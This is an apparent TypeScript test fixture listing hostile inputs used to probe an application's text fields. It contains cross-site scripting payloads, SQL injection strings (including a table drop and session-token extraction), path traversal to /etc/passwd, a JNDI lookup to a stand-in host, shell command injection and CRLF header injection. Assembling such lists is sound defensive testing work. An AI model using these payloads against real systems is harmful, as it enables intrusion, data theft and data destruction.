// What somebody who means harm writes into a field.

/** Stands in every stored script, so that a page that runs it is known. */
export const CANARY = 'juntosCanary';

export const SCRIPTS: readonly string[] = [
  `<script>window.${CANARY}=1</script>`,
  `"><img src=x onerror="window.${CANARY}=1">`,
  `'><svg/onload=window.${CANARY}=1>`,
  `</textarea></title></style><script>window.${CANARY}=1</script>`,
  `javascript:window.${CANARY}=1//`,
  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  `<a href="javascript:window.${CANARY}=1">toca</a>`,
  `[toca](javascript:window.${CANARY}=1) ![x](x "onerror=window.${CANARY}=1")`,
  `{{constructor.constructor('window.${CANARY}=1')()}} \${window.${CANARY}=1}`,
  `<!--><base href="//otra.test/"><meta http-equiv=refresh content="0;url=//otra.test">`,
  `\u2028window.${CANARY}=1\u2029`,
  `</script><script>window.${CANARY}=1</script>`,
];

const DATABASE = [
  `'; drop table "user"; --`,
  `' or '1'='1`,
  `") or 1=1 -- `,
  `1; select pg_sleep(9)`,
  `'||(select token from session limit 1)||'`,
  `\\'; select pg_sleep(9); --`,
  `%' union select null, token from session --`,
  '$1',
  '?',
];

const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/dev/zero',
  'file:///etc/passwd',
  'C:\\boot.ini',
];

const OTHERS = [
  `\${jndi:ldap://otra.test/a}`,
  '; cat /etc/passwd #',
  '`id`',
  'a\r\nSet-Cookie: juntos.session_token=robada',
  'a\r\nBcc: otra@correo.test',
  '=HYPERLINK("http://otra.test")',
  '{"$gt":""}',
  '__proto__',
  'constructor',
  'a\u0000b',
  '\ud800',
  '\u202eatsil',
  '𝕬'.repeat(40),
  'á̷̛'.repeat(30),
  '%s%s%n%x',
  'NaN',
  '-1e999',
  ' '.repeat(3_000),
  'a'.repeat(3_900),
];

export const HOSTILE: readonly string[] = [...SCRIPTS, ...DATABASE, ...PATHS, ...OTHERS];

/** Values of a type that a text field does not expect. */
export const WRONG_TYPES: readonly unknown[] = [
  null,
  0,
  -1,
  1e308,
  true,
  [],
  {},
  [['a']],
  { $ne: null },
  { toString: 'a', length: 9 },
  [null],
];
